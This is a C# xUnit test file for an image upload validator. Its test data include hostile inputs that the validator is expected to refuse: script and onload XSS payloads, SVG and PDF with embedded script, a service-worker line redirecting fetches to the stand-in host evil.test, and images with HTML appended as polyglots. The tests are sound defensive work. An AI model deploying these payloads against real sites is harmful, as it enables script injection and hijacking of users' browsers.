using System.Text;
using Marginalia.Content;
using Marginalia.Tests.Support;

namespace Marginalia.Tests.Content;

public class ImageCheckTests
{
    // Typed as rows of objects: they name ImageFormat, which is internal, and MemberData must be public.
    public static IEnumerable<object[]> RealImages => new TheoryData<string, byte[], ImageFormat, long, long>
    {
        { "png 2x2", TestImages.Png(), ImageFormat.Png, 2, 2 },
        { "png 300x7", TestImages.Png(300, 7), ImageFormat.Png, 300, 7 },
        { "png with a text chunk", TestImages.Png(3, 3, ("tEXt", "Comment\0made here"u8.ToArray())), ImageFormat.Png, 3, 3 },
        { "png 1x1 (epub test's)", Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="), ImageFormat.Png, 1, 1 },
        { "jpeg (cjpeg)", TestImages.Jpeg, ImageFormat.Jpeg, 2, 2 },
        { "gif 1x1", TestImages.Gif(), ImageFormat.Gif, 1, 1 },
        { "gif screen 640x480", TestImages.Gif(640, 480), ImageFormat.Gif, 640, 480 },
        { "webp lossy (cwebp)", TestImages.WebPLossy, ImageFormat.WebP, 2, 2 },
        { "webp lossless (cwebp)", TestImages.WebPLossless, ImageFormat.WebP, 2, 2 },
        { "webp extended", TestImages.WebPExtended(800, 600), ImageFormat.WebP, 800, 600 },
    };

    [Theory]
    [MemberData(nameof(RealImages))]
    internal void A_real_image_is_recognised_by_its_bytes_with_its_size(string name, byte[] bytes, ImageFormat format, long width, long height)
    {
        var (info, problem) = ImageCheck.Inspect(bytes);

        Assert.True(problem is null, $"{name}: {problem}");
        Assert.Equal(new ImageInfo(format, width, height), info);
    }

    public static TheoryData<string, byte[], string> NotImages => new()
    {
        { "empty", [], "the file is empty" },
        { "html", "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray(), "it is HTML" },
        { "html, leading space and case", "  \n<HTML><BODY onload=alert(1)>"u8.ToArray(), "it is HTML" },
        { "bare script tag", "<script>alert(document.domain)</script>"u8.ToArray(), "it is HTML" },
        { "svg with script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"u8.ToArray(), "it is SVG" },
        { "svg with xml prolog, no script", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"u8.ToArray(), "it is SVG" },
        { "svg with bom", "\uFEFF<svg onload=\"alert(1)\"/>"u8.ToArray(), "it is SVG" },
        { "pdf", "%PDF-1.7\n1 0 obj\n<< /JS (app.alert(1)) >>\nendobj\n"u8.ToArray(), "it is a PDF document" },
        { "javascript", "self.addEventListener('fetch', e => e.respondWith(fetch('https://evil.test')));"u8.ToArray(), "its first bytes are 73656C662E616464" },
        { "avif", [0, 0, 0, 0x1C, .. "ftypavif"u8, 0, 0, 0, 0, .. "avifmif1miaf"u8], "it is an ISO media file" },
        { "bmp", [.. "BM"u8, 0x3A, 0, 0, 0, 0, 0, 0, 0], "its first bytes are 424D3A0000000000" },
        { "one png byte", [0x89], "its first bytes are 89" },
    };

    [Theory]
    [MemberData(nameof(NotImages))]
    public void A_file_that_is_no_accepted_image_is_refused_saying_what_it_is(string name, byte[] bytes, string expected)
    {
        var (info, problem) = ImageCheck.Inspect(bytes);

        Assert.Null(info);
        Assert.True(problem!.Contains(expected, StringComparison.Ordinal), $"{name}: {problem}");
    }

    public static TheoryData<string, byte[], string> BrokenImages()
    {
        var png = TestImages.Png(4, 4);
        var data = new TheoryData<string, byte[], string>
        {
            { "png: only the signature", png[..8], "PNG image but its IHDR header is missing or truncated" },
            { "png: IHDR cut", png[..20], "its IHDR header is missing or truncated" },
            { "png: no IEND", png[..^12], "it is truncated (no IEND chunk)" },
            { "png: IDAT cut", png[..^20], "a chunk runs past the end of the file" },
            { "png: html after IEND (polyglot)", [.. png, .. "<html><script>alert(1)</script>"u8], "bytes follow its IEND chunk" },
            { "png: no IDAT", TestImages.PngOf(2, 2), "it has no image data (IDAT)" },
            { "png: zero width", TestImages.PngOf(0, 2, ("IDAT", [1])), "impossible values" },
            { "png: width over 2^31", TestImages.PngOf(0x80000000, 2, ("IDAT", [1])), "impossible values" },
            { "png: chunk type not letters", TestImages.PngOf(2, 2, ("ID<T", [1])), "a chunk has an invalid type" },
            { "png: first chunk not IHDR", [.. png[..8], .. TestImages.Chunk("IDAT", [1]), .. png[8..]], "IHDR header is missing" },
            { "jpeg: only SOI", TestImages.Jpeg[..3], "it is truncated before its image data" },
            { "jpeg: header cut", TestImages.Jpeg[..100], "a segment runs past the end of the file" },
            { "jpeg: no EOI", TestImages.Jpeg[..^2], "no end-of-image marker" },
            { "jpeg: EOI before the scan", [0xFF, 0xD8, 0xFF, 0xD9], "ends or starts again before its image data" },
            { "jpeg: scan without a frame", [0xFF, 0xD8, 0xFF, 0xDA, 0x00, 0x02, 0x00, 0xFF, 0xD9], "no frame header with a size" },
            { "jpeg: html where a marker should be", [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x02, .. "<html>"u8], "a segment does not start with a marker" },
            { "gif: header only", TestImages.Gif()[..13], "it is truncated (no trailer)" },
            { "gif: screen cut", TestImages.Gif()[..9], "its header is truncated" },
            { "gif: no trailer", TestImages.Gif()[..^1], "it is truncated (no trailer)" },
            { "gif: html after the trailer", [.. TestImages.Gif(), .. "<script>alert(1)</script>"u8], "bytes follow its trailer" },
            { "gif: unknown block", [.. TestImages.Gif()[..^1], (byte)'<', 0x3B], "a block of unknown kind" },
            { "gif: no image", [.. TestImages.Gif()[..27], 0x3B], "it has no image" },
            { "webp: cut", TestImages.WebPLossy[..30], "shorter than its RIFF header says" },
            { "webp: html after the riff", [.. TestImages.WebPLossy, .. "<html>"u8], "bytes follow the end its RIFF header gives" },
            { "webp: no vp8 header", [.. "RIFF"u8, 12, 0, 0, 0, .. "WEBP"u8, .. "ABCD"u8, 0, 0, 0, 0], "its first chunk is not a coherent VP8" },
        };
        return data;
    }

    [Theory]
    [MemberData(nameof(BrokenImages))]
    public void An_image_whose_structure_is_truncated_or_incoherent_is_refused(string name, byte[] bytes, string expected)
    {
        var (info, problem) = ImageCheck.Inspect(bytes);

        Assert.Null(info);
        Assert.True(problem!.Contains(expected, StringComparison.Ordinal), $"{name}: {problem}");
    }

    [Fact]
    public void Every_prefix_of_a_real_image_is_refused_and_none_throws()
    {
        foreach (var image in new[] { TestImages.Png(5, 5), TestImages.Jpeg, TestImages.Gif(), TestImages.WebPLossy, TestImages.WebPLossless, TestImages.WebPExtended(9, 9) })
        {
            for (var length = 0; length < image.Length; length++)
            {
                var (info, problem) = ImageCheck.Inspect(image.AsSpan(0, length));
                Assert.True(info is null && problem is not null, $"{Encoding.ASCII.GetString(image, 0, 4)} cut at {length} was accepted");
            }
        }
    }
}
